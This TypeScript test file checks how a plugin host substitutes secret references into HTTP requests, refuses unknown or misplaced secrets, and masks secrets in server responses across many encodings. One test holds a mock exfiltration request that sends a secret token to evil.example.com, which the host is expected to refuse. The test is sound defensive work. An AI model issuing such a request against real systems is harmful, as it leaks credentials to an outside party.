import { test } from '@japa/runner'
import fc from 'fast-check'
import { SecretMask } from '#runtime/host_calls/secrets/secret_mask'
import { bodyOf, serve } from '#tests/support/http_server'
import { httpPlugin, local, type HttpAnswer } from '#tests/support/http_plugin'
import type { RequestListener } from 'node:http'

/** Holds all that has to be escaped somewhere. */
const SECRET = `s3cr"t/+&=?%\\<'>  é😀 end`
const TOKEN = 'tok_live_51H8xQ2eZvKYlo2C'
const USER = 'shop-user'

async function withServer(listener: RequestListener, cleanup: (work: () => void) => void, secrets: Record<string, string>) {
  const { port, close } = await serve(listener)
  cleanup(close)
  return { ...(await httpPlugin({ allow: [local(port)], secrets })), base: `http://127.0.0.1:${port}` }
}

test.group('Secrets by reference', () => {
  test('are filled in in header, query and body, each escaped for its place', async ({ assert, cleanup }) => {
    const seen: { url: string; authorization?: string; body: string }[] = []
    const { ask, base } = await withServer(
      async (request, response) => {
        seen.push({ url: request.url!, authorization: request.headers.authorization, body: (await bodyOf(request)).toString() })
        response.end()
      },
      cleanup,
      { secret: SECRET, token: TOKEN, user: USER }
    )
    const send = async (body: string, type: string, authorization = 'Bearer {{secret:token}}') => {
      const headers = { authorization, 'content-type': type }
      await ask('http_fetch', { method: 'POST', url: `${base}/path?a={{secret:secret}}&b={{secret:token}}`, headers, body })
      return seen.at(-1)!
    }
    const json = await send('{"a":"{{secret:secret}}","b":["{{secret:token}}"]}', 'application/json; charset=utf-8')
    assert.equal(json.authorization, `Bearer ${TOKEN}`)
    assert.equal(new URL(json.url, base).pathname, '/path')
    assert.deepEqual(
      [...new URL(json.url, base).searchParams],
      [
        ['a', SECRET],
        ['b', TOKEN],
      ]
    )
    assert.deepEqual(JSON.parse(json.body), { a: SECRET, b: [TOKEN] })
    const problem = await send('{"a":"{{secret:secret}}"}', 'application/vnd.own+json')
    assert.deepEqual(JSON.parse(problem.body), { a: SECRET })
    const form = await send('a={{secret:secret}}&b=1', 'application/x-www-form-urlencoded')
    assert.deepEqual(Object.fromEntries(new URLSearchParams(form.body)), { a: SECRET, b: '1' })
    const plain = await send('<{{secret:secret}}>', 'text/plain', 'Basic {{basic:user:token}}')
    assert.equal(plain.body, `<${SECRET}>`)
    assert.equal(plain.authorization, `Basic ${Buffer.from(`${USER}:${TOKEN}`).toString('base64')}`)
  })

  test('a secret that reads like a reference is not filled in again, and other braces stay', async ({ assert, cleanup }) => {
    const bodies: string[] = []
    const { ask, base } = await withServer(
      async (request, response) => {
        bodies.push((await bodyOf(request)).toString())
        response.end()
      },
      cleanup,
      { sly: '{{secret:token}}', token: TOKEN }
    )
    await ask('http_fetch', { method: 'POST', url: `${base}/`, body: '{{secret:sly}} {{name}} {{ secret:token }} $& $1' })
    assert.deepEqual(bodies, ['{{secret:token}} {{name}} {{ secret:token }} $& $1'])
  })

  test('unknown and unset ones are refused by name, and none goes into host or path or beyond granted hosts', async ({
    assert,
    cleanup,
  }) => {
    let hits = 0
    const { refusal, base } = await withServer((_request, response) => response.end(String(hits++)), cleanup, {
      token: TOKEN,
      lines: 'two\r\nlines',
    })
    const header = (value: string) => ({ method: 'GET', url: `${base}/`, headers: { 'x-key': value } })
    assert.deepEqual(await refusal('http_fetch', header('{{secret:other}}')), {
      code: 'unknown_secret',
      message: 'The manifest names no secret "other".',
    })
    assert.deepEqual(await refusal('http_fetch', header('{{secret:unset_one}}')), {
      code: 'secret_not_set',
      message: 'The secret "unset_one" is not set.',
    })
    for (const name of ['constructor', '__proto__', '', ' token', 'TOKEN', 'token:token']) {
      assert.equal((await refusal('http_fetch', header(`{{secret:${name}}}`))).code, 'unknown_secret', name)
    }
    assert.equal((await refusal('http_fetch', header('{{basic:token}}'))).code, 'invalid_request')
    assert.equal((await refusal('http_fetch', header('{{secret:lines}}'))).code, 'header_refused')
    for (const url of [`${base}/{{secret:token}}`, 'http://{{secret:token}}/', '{{secret:token}}://x/']) {
      assert.include(['secret_not_allowed_here', 'invalid_url'], (await refusal('http_fetch', { method: 'GET', url })).code)
    }
    const elsewhere = await refusal('http_fetch', { method: 'GET', url: 'https://evil.example.com/?k={{secret:token}}' })
    assert.equal(elsewhere.code, 'host_not_granted')
    assert.notInclude(elsewhere.message, TOKEN)
    assert.equal(hits, 0)
  })

  test('another installation’s secrets are not there', async ({ assert, cleanup }) => {
    const { port, close } = await serve((_request, response) => response.end())
    cleanup(close)
    await httpPlugin({ allow: [local(port)], secrets: { token: TOKEN } })
    const other = await httpPlugin({ allow: [local(port)], secrets: { mine: 'something else' } })
    other.installation.manifest.secrets = { token: {}, mine: {} }
    const request = { method: 'GET', url: `http://127.0.0.1:${port}/?k={{secret:token}}` }
    assert.equal((await other.refusal('http_fetch', request)).code, 'secret_not_set')
  })

  test('what comes back from a server that echoes is masked, however it is spelled', async ({ assert, cleanup }) => {
    for (const secret of [SECRET, TOKEN, 'abcd', 'ключ от сейфа']) {
      const spelled = spellings(secret)
      const { ask, base } = await withServer(
        async (request, response) => {
          const body = await bodyOf(request)
          const path = new URL(request.url!, 'http://x').pathname
          response
            .setHeader('x-echo', encodeURIComponent(secret))
            .setHeader('x-url', request.url!)
            .setHeader('x-raw', `raw ${Buffer.from(secret).toString('latin1')}.`)
          // As bytes: beside a text Node would write the header's bytes as text too.
          const text = path === '/wide' ? `text ${secret} text` : `${body.toString()}\n${spelled.join('\n')}\nthe end`
          response.end(Buffer.from(text, path === '/wide' ? 'utf16le' : 'utf8'))
        },
        cleanup,
        { secret, user: USER }
      )
      const request = { method: 'POST', url: `${base}/?key={{secret:secret}}`, body: 'sent: {{secret:secret}} {{basic:user:secret}}' }
      const answer = await ask<HttpAnswer>('http_fetch', request)
      assert.equal(answer.url, request.url)
      assert.isTrue(answer.body!.startsWith('sent: *** '), answer.body!.slice(0, 40))
      assert.isTrue(answer.body!.endsWith('\nthe end'))
      const all = JSON.stringify(answer)
      for (const spelling of spelled) assert.notInclude(answer.body!, spelling)
      assert.notInclude(all, encodeURIComponent(secret))
      assert.equal(answer.headers['x-url'], '/?key=***')
      assert.equal(answer.headers['x-raw'], 'raw ***.')
      const wide = await ask<HttpAnswer>('http_fetch', { ...request, url: `${base}/wide?key={{secret:secret}}` })
      const bytes = Buffer.from(wide.body_base64 ?? Buffer.from(wide.body!).toString('base64'), 'base64')
      assert.notInclude(bytes.toString('latin1'), Buffer.from(secret, 'utf16le').toString('latin1'))
    }
  })

  test('a secret within base64 of anything is not to be read out of it', ({ assert }) => {
    const printable = fc.string({ unit: 'binary-ascii', minLength: 8, maxLength: 40 })
    fc.assert(
      fc.property(printable, printable, printable, (before, secret, after) => {
        // What stands beside may say the same by chance: then it is not the secret that can be read.
        fc.pre(!`${before} ${after}`.includes(secret.slice(2, -2)))
        const mask = new SecretMask()
        mask.add(secret)
        const masked = mask.text(`<${Buffer.from(before + secret + after).toString('base64')}>`)
        // What is left at the edges is less than two characters of the secret.
        assert.include(masked, '***')
        const left = masked
          .slice(1, -1)
          .split('***')
          .map((part) => Buffer.from(part, 'base64').toString('latin1'))
        for (const part of left) assert.notInclude(part, secret.slice(2, -2))
      })
    )
  })

  test('text without a secret is left as it is, in any charset', ({ assert }) => {
    const mask = new SecretMask()
    mask.add(TOKEN)
    const bytes = Buffer.from([0, 255, 254, 128, 10])
    assert.deepEqual(Buffer.from(mask.bytes(bytes)), bytes)
    assert.equal(mask.text('привет 😀'), 'привет 😀')
    assert.equal(mask.text(`привет ${TOKEN} 😀`), 'привет *** 😀')
  })
})

function spellings(secret: string): string[] {
  const bytes = Buffer.from(secret)
  return [
    secret,
    JSON.stringify(secret).slice(1, -1),
    encodeURIComponent(secret),
    encodeURIComponent(secret).replace(/%../g, (code) => code.toLowerCase()),
    new URLSearchParams({ a: secret }).toString().slice(2),
    bytes.toString('hex'),
    bytes.toString('hex').toUpperCase(),
    bytes.toString('base64'),
    bytes.toString('base64url'),
    Buffer.from(`${USER}:${secret}`).toString('base64'),
    Buffer.from(`u:${secret}`).toString('base64'),
    Buffer.from(`us:${secret}`).toString('base64url'),
    [...secret].map((character) => `&#${character.codePointAt(0)};`).join(''),
    [...Buffer.from(secret)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
    secret.replace(/[^a-z]/gi, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`),
    secret.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;').replaceAll("'", '&#39;'),
  ]
}
